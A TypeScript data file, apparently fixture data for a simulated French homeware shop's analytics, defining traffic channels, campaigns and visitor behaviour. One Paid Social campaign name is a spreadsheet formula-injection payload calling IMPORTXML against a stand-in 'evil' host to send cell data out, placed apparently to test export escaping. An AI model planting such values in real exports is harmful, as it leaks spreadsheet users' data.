// Where the visitors of the simulated shop come from: its channels and campaigns, and how each behaves.

/** A channel, as Google Analytics names them. */
type Channel =
  | "Organic Search"
  | "Paid Search"
  | "Paid Social"
  | "Organic Social"
  | "Email"
  | "Direct"
  | "Referral"
  | "Display"
  | "Unassigned";

export type Line = {
  id: string;
  channel: Channel;
  source: string;
  medium: string;
  campaign: string;
  /** Sessions of an ordinary day, in 2025. */
  sessions: number;
  /** Sessions gained in a year: 0.1 for 10 %. */
  growth: number;
  /** Share of sessions that engage, pages and seconds of a session, share of users seen for the first time. */
  engaged: number;
  pages: number;
  seconds: number;
  fresh: number;
  /** Orders, and other key events (sign-ups, calls), by session. */
  orders: number;
  signUps: number;
  /** An ordinary order, in cents. */
  basket: number;
  /** From Sunday to Saturday, 1 on average. */
  week: readonly number[];
  /** The part of the year when it runs, MM-DD, both included; the whole year when absent. */
  runs?: readonly [from: string, to: string];
  /** What is paid for a click, in cents, and the share of impressions that are clicked. */
  ads?: { click: number; clickRate: number };
};

const EVENINGS = [1.12, 1.06, 0.99, 0.97, 0.96, 0.93, 0.97];
const WEEKENDS = [1.22, 0.94, 0.92, 0.98, 0.94, 0.95, 1.05];
const OFFICE_DAYS = [0.3, 1.3, 1.4, 1.35, 1.3, 1.05, 0.3];
const TUESDAYS = [0.35, 0.4, 3.6, 1.2, 0.7, 0.45, 0.3];

type Behaviour = Omit<
  Line,
  "id" | "channel" | "source" | "medium" | "campaign" | "sessions" | "runs" | "ads"
>;

/** How its visitors behave: searching, reading the shop's e-mails, coming back, clicking an ad, scrolling, passing by. */
const searching: Behaviour = {
  growth: 0.14,
  engaged: 0.62,
  pages: 4.1,
  seconds: 148,
  fresh: 0.61,
  week: EVENINGS,
  orders: 0.016,
  signUps: 0.021,
  basket: 6200,
};
const reading: Behaviour = {
  growth: 0.05,
  engaged: 0.71,
  pages: 4.8,
  seconds: 182,
  fresh: 0.06,
  week: TUESDAYS,
  orders: 0.034,
  signUps: 0.008,
  basket: 6900,
};
const returning: Behaviour = {
  growth: 0.06,
  engaged: 0.66,
  pages: 4.6,
  seconds: 171,
  fresh: 0.29,
  week: EVENINGS,
  orders: 0.027,
  signUps: 0.012,
  basket: 6600,
};
const clicking: Behaviour = {
  growth: 0.1,
  engaged: 0.64,
  pages: 4.2,
  seconds: 139,
  fresh: 0.52,
  week: EVENINGS,
  orders: 0.023,
  signUps: 0.014,
  basket: 6400,
};
const scrolling: Behaviour = {
  growth: 0.18,
  engaged: 0.41,
  pages: 2.2,
  seconds: 64,
  fresh: 0.74,
  week: WEEKENDS,
  orders: 0.007,
  signUps: 0.016,
  basket: 5400,
};
const passing: Behaviour = {
  growth: -0.04,
  engaged: 0.29,
  pages: 1.6,
  seconds: 38,
  fresh: 0.68,
  week: WEEKENDS,
  orders: 0.004,
  signUps: 0.005,
  basket: 5800,
};

/** Campaigns are named by people: two of these names are what a spreadsheet would take for a formula. */
export const LINES: readonly Line[] = [
  ...lines("Organic Search", "organic", searching, [
    ["seo-google", "google", "(organic)", 690],
    ["seo-bing", "bing", "(organic)", 46],
    ["seo-ecosia", "ecosia.org", "(organic)", 19],
  ]),
  ...lines("Direct", "(none)", returning, [["direct", "(direct)", "(direct)", 455]]),
  ...lines("Referral", "referral", returning, [
    ["blog", "lecarnetdeco.example", "(referral)", 58, { growth: 0.3 }],
    ["press", "magazine-maison.example", "(referral)", 27],
  ]),
  ...lines("Organic Social", "social", scrolling, [
    ["instagram", "instagram", "(not set)", 122],
    ["pinterest", "pinterest", "(not set)", 64, { growth: 0.35 }],
    ["facebook-page", "facebook", "(not set)", 37],
    ["linkedin-page", "linkedin", "(not set)", 11, { week: OFFICE_DAYS }],
  ]),
  ...lines("Email", "email", reading, [
    ["newsletter", "newsletter", "Newsletter hebdomadaire", 210],
    ["basket", "automation", "Relance panier abandonné", 38, { orders: 0.078, week: EVENINGS }],
    ["welcome", "automation", "Bienvenue – 10 % offerts", 24, { fresh: 0.12, week: EVENINGS }],
    ["sales-mail", "newsletter", "Soldes d'été : dernière démarque", 95, { runs: ["06-24", "07-24"] }],
  ]),
  ...lines("Paid Search", "cpc", clicking, [
    ["brand", "google", "Marque", 148, { orders: 0.041, ads: { click: 19, clickRate: 0.12 } }],
    ["shopping", "google", "Shopping – Arts de la table", 236, { ads: { click: 41, clickRate: 0.011 } }],
    ["generic", "google", "Hors marque – Vaisselle artisanale", 87, { ads: { click: 68, clickRate: 0.032 } }],
    ["promo", "google", "+promo bienvenue", 61, { ads: { click: 52, clickRate: 0.027 } }],
    ["bing-brand", "bing", "Marque (Bing)", 21, { ads: { click: 16, clickRate: 0.09 } }],
  ]),
  ...lines("Paid Social", "paid-social", scrolling, [
    [
      "prospecting",
      "facebook",
      "Prospection vidéo « L'atelier »",
      176,
      { ads: { click: 33, clickRate: 0.009 } },
    ],
    [
      "retargeting",
      "facebook",
      "Reciblage – paniers",
      69,
      { orders: 0.031, ads: { click: 57, clickRate: 0.014 } },
    ],
    [
      "gifts",
      "instagram",
      "Noël – idées cadeaux",
      140,
      { runs: ["11-10", "12-20"], ads: { click: 46, clickRate: 0.011 } },
    ],
    [
      "hostile",
      "facebook",
      '=IMPORTXML("http://evil/?"&A1;"//a")',
      31,
      { ads: { click: 29, clickRate: 0.008 } },
    ],
    [
      "business-gifts",
      "linkedin",
      "Cadeaux d'affaires",
      14,
      { week: OFFICE_DAYS, signUps: 0.03, ads: { click: 320, clickRate: 0.0055 } },
    ],
  ]),
  ...lines("Display", "display", passing, [
    ["display", "google", "Display – Reciblage 30 jours", 83, { ads: { click: 22, clickRate: 0.0035 } }],
    [
      "banner",
      "magazine-maison.example",
      "Bannière printemps / partenaires",
      44,
      { runs: ["03-15", "05-31"], ads: { click: 35, clickRate: 0.0021 } },
    ],
  ]),
];

/** Where Google Analytics leaves the visits it has not attributed yet. */
export const UNASSIGNED: Line = {
  id: "unassigned",
  channel: "Unassigned",
  source: "(not set)",
  medium: "(not set)",
  campaign: "(not set)",
  sessions: 0,
  ...returning,
};

type Row = [id: string, source: string, campaign: string, sessions: number, own?: Partial<Line>];

function lines(channel: Channel, medium: string, behaviour: Behaviour, rows: Row[]): Line[] {
  return rows.map(([id, source, campaign, sessions, own]) => ({
    id,
    channel,
    source,
    medium,
    campaign,
    sessions,
    ...behaviour,
    ...own,
  }));
}
